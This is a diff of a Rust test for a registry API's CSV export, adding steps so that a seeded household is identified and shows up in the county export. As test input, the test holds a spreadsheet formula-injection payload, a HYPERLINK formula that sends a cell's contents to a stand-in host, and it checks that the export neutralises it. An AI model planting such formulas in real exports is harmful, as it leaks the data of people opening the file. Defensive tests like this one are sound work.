@@ -260,12 +260,16 @@ async fn csv_exports_never_carry_a_formula(backend: Backend) {
     seed(&app).await;
     let a = app.phone("officer-a", "phone-a").await;
     let formula = r#"=HYPERLINK("http://x.example/?"&A1,"张三")"#;
-    let (_, _, mut changes) = new_household(VILLAGE_1, 0);
+    let (household, _, mut changes) = new_household(VILLAGE_1, 0);
     changes[0].fields.insert("outside_national_system".into(), json!(true));
     changes[0].fields.insert("outside_reason".into(), json!("-2+3"));
     changes[1].fields.insert("name".into(), json!(formula));
     let res = push(&a, vec![changeset(changes)]).await;
     assert_eq!(res.results[0].status, jingzhun_mobile_api::wire::ChangeSetStatus::Applied, "{:?}", res.results[0]);
+    // The 系统外 list is of households newly identified (001), so this one is identified.
+    let village = Admin::login(&app.base, "village-1", PASSWORD).await;
+    let case = village.ok_post("/api/v1/cases", json!({"household_id": household, "kind": "identify"})).await;
+    pass_every_step(&app, case["id"].as_str().expect("case id")).await;
 
     let county = Admin::login(&app.base, "county", PASSWORD).await;
     let (status, csv) =
